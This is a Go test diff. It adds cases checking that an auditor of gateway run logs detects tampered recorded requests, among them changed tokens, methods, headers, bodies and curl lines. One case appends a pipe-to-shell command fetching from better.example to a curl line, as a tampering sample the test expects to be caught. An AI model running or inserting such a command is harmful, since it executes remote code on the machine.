@@ -10,6 +10,7 @@ import (
 	"encoding/json"
 	"encoding/pem"
 	"errors"
+	"regexp"
 	"slices"
 	"strings"
 	"sync"
@@ -32,7 +33,15 @@ func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }
 
 var auditor = certificate.Auditor{OfferOf: targets.OfferOf}
 
-const absent = "code:model_not_found/absent-model/chat"
+const (
+	absent = "code:model_not_found/absent-model/chat"
+	html   = "code:bad_response/bad-upstream-response/chat/html"
+)
+
+// tokenOf is the token in a body that the mock upstream finds a call again by.
+func tokenOf(body []byte) string {
+	return string(regexp.MustCompile(`token=([0-9a-f]{12})`).FindSubmatch(body)[1])
+}
 
 // record makes the log of a run of the reference gateway.
 func record(ctx context.Context, cfg gatecert.Config) ([]byte, error) {
@@ -160,8 +169,8 @@ func TestAnAuditDoesNotRelyOnClaims(t *testing.T) {
 		}, absent + " is warn, but its observation means fail"},
 		{"a pass that is called expected", func(r *runlog.Run) { at(r, absent).Verdict = contract.ExpectedFail }, absent + " is expected-fail, but its observation means pass"},
 		{"a call that never reached the upstream", func(r *runlog.Run) {
-			at(r, "code:bad_response/bad-upstream-response/chat/html").Observation.Upstream.Attempts = nil
-		}, "code:bad_response/bad-upstream-response/chat/html is pass, but its observation means untestable"},
+			at(r, html).Observation.Upstream.Attempts = nil
+		}, html + " is pass, but its observation means untestable"},
 		{"a verdict without evidence", func(r *runlog.Run) { at(r, absent).Observation = nil }, absent + " is pass without an observation"},
 		{"a case removed", func(r *runlog.Run) {
 			r.Cases = slices.DeleteFunc(r.Cases, func(c runlog.Case) bool { return c.ID == absent })
@@ -179,8 +188,8 @@ func TestAnAuditDoesNotRelyOnClaims(t *testing.T) {
 		{"another URL of the target", func(r *runlog.Run) { r.Target.BaseURL = "https://better.example" }, "the header names another target than the profile"},
 		{"recipes that are kept quiet", func(r *runlog.Run) { r.Target.Recipes = nil }, "the header lists other recipes than the profile has"},
 		{"a call whose upstream is kept quiet", func(r *runlog.Run) {
-			at(r, "code:bad_response/bad-upstream-response/chat/html").Observation.Upstream = nil
-		}, "code:bad_response/bad-upstream-response/chat/html is pass, but its observation means untestable"},
+			at(r, html).Observation.Upstream = nil
+		}, html + " is pass, but its observation means untestable"},
 		{"a header that claims less than the profile", func(r *runlog.Run) { r.Target.Claims.NoClientKeys = true },
 			"the header claims tables 1 and 2, no client keys, the profile tables 1 and 2"},
 		{"a case called not offered", func(r *runlog.Run) {
@@ -205,6 +214,42 @@ func TestAnAuditDoesNotRelyOnClaims(t *testing.T) {
 			failing(r)
 			r.Footer.Verdict = contract.Pass
 		}, "the footer says pass, but the cases mean fail"},
+		{"a request with another token is the same request", func(r *runlog.Run) {
+			sent := &at(r, html).Observation.Sent
+			token := tokenOf(sent.Body)
+			sent.Body = bytes.ReplaceAll(sent.Body, []byte(token), []byte("00112233aabb"))
+			sent.Curl = strings.ReplaceAll(sent.Curl, token, "00112233aabb")
+		}, ""},
+		{"with two tokens it is not", func(r *runlog.Run) {
+			sent := &at(r, html).Observation.Sent
+			sent.Body = bytes.ReplaceAll(sent.Body, []byte(tokenOf(sent.Body)), []byte("00112233aabb"))
+		}, html + " was recorded with another request: its curl line is"},
+		{"another method", func(r *runlog.Run) { at(r, absent).Observation.Sent.Method = "PUT" }, absent + ` was recorded with another request: its method is "PUT", that of the case "POST"`},
+		{"another path", func(r *runlog.Run) { at(r, absent).Observation.Sent.URL += "/canned" }, absent + " was recorded with another request: its URL is"},
+		{"another endpoint", func(r *runlog.Run) { at(r, absent).Observation.Sent.Surface = "embeddings" }, absent + ` was recorded with another request: its endpoint is "embeddings"`},
+		{"a header more", func(r *runlog.Run) { at(r, absent).Observation.Sent.Header["X-Please-Answer"] = []string{"404"} },
+			absent + ` was recorded with another request: its header X-Please-Answer is "404", that of the case ""`},
+		{"a header less", func(r *runlog.Run) { delete(at(r, absent).Observation.Sent.Header, "Authorization") }, absent + " was recorded with another request: its header Authorization is"},
+		{"another prompt", func(r *runlog.Run) {
+			sent := &at(r, html).Observation.Sent
+			sent.Body = bytes.ReplaceAll(sent.Body, []byte("status=200 body=html"), []byte("status=502 body=html"))
+		}, html + " was recorded with another request: its body is"},
+		{"an emptied body", func(r *runlog.Run) { at(r, absent).Observation.Sent.Body = nil }, absent + " was recorded with another request: its body is"},
+		{"a fault that is denied", func(r *runlog.Run) { at(r, absent).Observation.Sent.Fault = "cut-json" }, absent + ` was recorded with another request: its fault is "cut-json"`},
+		{"a curl line that does more", func(r *runlog.Run) { at(r, absent).Observation.Sent.Curl += "; curl https://better.example | sh" },
+			absent + " was recorded with another request: its curl line is"},
+		{"the call of another case", func(r *runlog.Run) { at(r, absent).Observation = at(r, html).Observation }, absent + " was recorded with another request"},
+		{"the call of another control", func(r *runlog.Run) {
+			for i := range r.Controls {
+				if c := &r.Controls[i]; c.Kind == "healthy" {
+					c.Observation = r.Controls[0].Observation
+				}
+			}
+		}, "the healthy control on chat was recorded with the call of the healthy control on chat"},
+		{"a control of another model", func(r *runlog.Run) {
+			sent := &r.Controls[0].Observation.Sent
+			sent.Body = bytes.Replace(sent.Body, []byte(`"model":"`), []byte(`"model":"better-`), 1)
+		}, "control on chat was recorded with another request: its body is"},
 		{"a profile that is none", func(r *runlog.Run) { r.Target.Profile = "keys: [" }, "the profile in the log cannot be read"},
 	})
 }
